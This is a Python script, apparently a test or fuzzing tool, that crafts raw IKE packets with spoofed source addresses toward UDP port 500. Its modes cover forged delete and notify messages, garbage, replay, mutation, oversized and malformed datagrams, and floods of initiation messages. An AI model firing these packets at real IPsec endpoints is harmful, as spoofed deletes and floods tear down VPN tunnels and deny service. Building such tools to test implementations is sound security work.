#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Sends IKE messages that an attacker could send, from any source address.

    inject.py SRC DST KIND [ARGUMENT...]

    delete ICOOKIE RCOOKIE [SPI]     informational, in clear: delete the ISAKMP SA, or an ESP SA
    notify ICOOKIE RCOOKIE TYPE      informational, in clear: a notification
    garbage ICOOKIE RCOOKIE COUNT    informational, flagged as encrypted, random body
    replay PCAP [ROUNDS]             every message that SRC sent DST in a capture, again
    mutate PCAP SEED COUNT           the same, each with octets changed, cut off or added
    oversized                        a main mode message of the largest size UDP has
    malformed SEED COUNT             headers and payloads with lengths that lie
    initiate COUNT                   a first main mode message with an SA nobody offers

Prints the number of datagrams sent.
"""
import random
import socket
import struct
import sys

PORT = 500
# RFC 2408 3.1 to 3.15
SA, KE, ID, CERT, HASH, NONCE, NOTIFY, DELETE, VID = 1, 4, 5, 6, 8, 10, 11, 12, 13
ID_PROT, INFORMATIONAL, QUICK = 2, 5, 32


class Sender:
    """A raw socket, so that the source address can be another's."""

    def __init__(self, src, dst):
        self.src, self.dst, self.sent = src, dst, 0
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)

    def send(self, data):
        udp = struct.pack('!HHHH', PORT, PORT, 8 + len(data), 0) + data
        # Fragments by hand: a raw socket with its own header does not make them.
        ident = random.getrandbits(16)
        for at in range(0, len(udp), 1480):
            part = udp[at:at + 1480]
            more = 0x2000 if at + 1480 < len(udp) else 0
            ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(part), ident, more | at // 8, 64, 17, 0,
                             socket.inet_aton(self.src), socket.inet_aton(self.dst))
            self.sock.sendto(ip + part, (self.dst, 0))
        self.sent += 1


def header(icookie, rcookie, first, exchange, flags, msgid, length):
    return icookie + rcookie + struct.pack('!BBBBII', first, 0x10, exchange, flags, msgid, length)


def message(icookie, rcookie, first, exchange, body, flags=0, msgid=None):
    if msgid is None:
        msgid = random.getrandbits(32)
    return header(icookie, rcookie, first, exchange, flags, msgid, 28 + len(body)) + body


def payload(following, body, length=None):
    return struct.pack('!BBH', following, 0, 4 + len(body) if length is None else length) + body


def cookies(args):
    return bytes.fromhex(args[0]), bytes.fromhex(args[1])


def do_delete(s, args):
    i, r = cookies(args)
    if len(args) > 2:
        spi = struct.pack('!I', int(args[2], 16))
        body = struct.pack('!IBBH', 1, 3, 4, 1) + spi
    else:
        body = struct.pack('!IBBH', 1, 1, 16, 1) + i + r
    s.send(message(i, r, DELETE, INFORMATIONAL, payload(0, body)))


def do_notify(s, args):
    i, r = cookies(args)
    body = struct.pack('!IBBH', 1, 1, 16, int(args[2])) + i + r
    s.send(message(i, r, NOTIFY, INFORMATIONAL, payload(0, body)))


def do_garbage(s, args):
    i, r = cookies(args)
    for n in range(int(args[2])):
        body = random.randbytes(16 * (1 + n % 8))
        s.send(message(i, r, HASH, (INFORMATIONAL, QUICK, ID_PROT)[n % 3], body, flags=1))


def captured(path, src):
    """UDP payloads that src sent to port 500, from a pcap file of Ethernet frames."""
    with open(path, 'rb') as f:
        data = f.read()
    order = '<' if data[:4] in (b'\xd4\xc3\xb2\xa1', b'\x4d\x3c\xb2\xa1') else '>'
    at = 24
    while at + 16 <= len(data):
        length = struct.unpack(order + 'I', data[at + 8:at + 12])[0]
        frame = data[at + 16:at + 16 + length]
        at += 16 + length
        ip = frame[14:]
        if frame[12:14] != b'\x08\x00' or ip[9] != 17 or socket.inet_ntoa(ip[12:16]) != src:
            continue
        udp = ip[(ip[0] & 15) * 4:]
        if struct.unpack('!H', udp[2:4])[0] == PORT:
            yield udp[8:]


def do_replay(s, args):
    for _ in range(int(args[1]) if len(args) > 1 else 1):
        for data in captured(args[0], s.src):
            s.send(data)


def mutate(rng, data):
    data = bytearray(data)
    kind = rng.randrange(4)
    if kind == 0 and data:
        for _ in range(rng.randint(1, 8)):
            data[rng.randrange(len(data))] = rng.getrandbits(8)
    elif kind == 1:
        data = data[:rng.randrange(len(data) + 1)]
    elif kind == 2:
        data += rng.randbytes(rng.randint(1, 64))
    else:
        # Behind a header whose length is right, so that payloads are looked at.
        for _ in range(rng.randint(1, 4)):
            if len(data) > 28:
                data[rng.randrange(28, len(data))] = rng.choice((0, 1, 0x7f, 0x80, 0xff))
        data[24:28] = struct.pack('!I', len(data))
    return bytes(data)


def do_mutate(s, args):
    rng = random.Random(int(args[1]))
    base = list(captured(args[0], s.src))
    for _ in range(int(args[2])):
        s.send(mutate(rng, rng.choice(base)))


def do_oversized(s, _args):
    s.send(message(random.randbytes(8), bytes(8), SA, ID_PROT, payload(0, bytes(65507 - 32)), msgid=0))


def do_malformed(s, args):
    rng = random.Random(int(args[0]))
    for _ in range(int(args[1])):
        body = b''
        kinds = [rng.choice((SA, KE, ID, HASH, NONCE, NOTIFY, DELETE, VID, rng.getrandbits(8)))
                 for _ in range(rng.randint(1, 6))]
        for k in range(len(kinds)):
            following = kinds[k + 1] if k + 1 < len(kinds) else 0
            part = rng.randbytes(rng.randrange(64))
            body += payload(following, part, rng.choice((None, None, 0, 1, 3, 4, 0xffff, rng.getrandbits(16))))
        data = message(rng.randbytes(8), rng.choice((bytes(8), rng.randbytes(8))), kinds[0],
                       rng.choice((ID_PROT, INFORMATIONAL, QUICK, rng.getrandbits(8))), body, rng.choice((0, 0, 1, 0xff)),
                       rng.choice((0, rng.getrandbits(32))))
        s.send(data)


def do_initiate(s, args):
    # One transform: DES-CBC, MD5, pre-shared key, modp768 (RFC 2409 Appendix A)
    attrs = b''.join(struct.pack('!HH', 0x8000 | t, v) for t, v in ((1, 1), (2, 1), (3, 1), (4, 1)))
    transform = payload(0, struct.pack('!BBH', 1, 1, 0) + attrs)
    proposal = payload(0, struct.pack('!BBBB', 1, 1, 0, 1) + transform)
    body = payload(0, struct.pack('!II', 1, 1) + proposal)
    for _ in range(int(args[0])):
        s.send(message(random.randbytes(8), bytes(8), SA, ID_PROT, body, msgid=0))


KINDS = {'delete': do_delete, 'notify': do_notify, 'garbage': do_garbage, 'replay': do_replay, 'mutate': do_mutate,
         'oversized': do_oversized, 'malformed': do_malformed, 'initiate': do_initiate}

if __name__ == '__main__':
    if len(sys.argv) < 4 or sys.argv[3] not in KINDS:
        sys.exit(__doc__)
    sender = Sender(sys.argv[1], sys.argv[2])
    KINDS[sys.argv[3]](sender, sys.argv[4:])
    print(sender.sent)
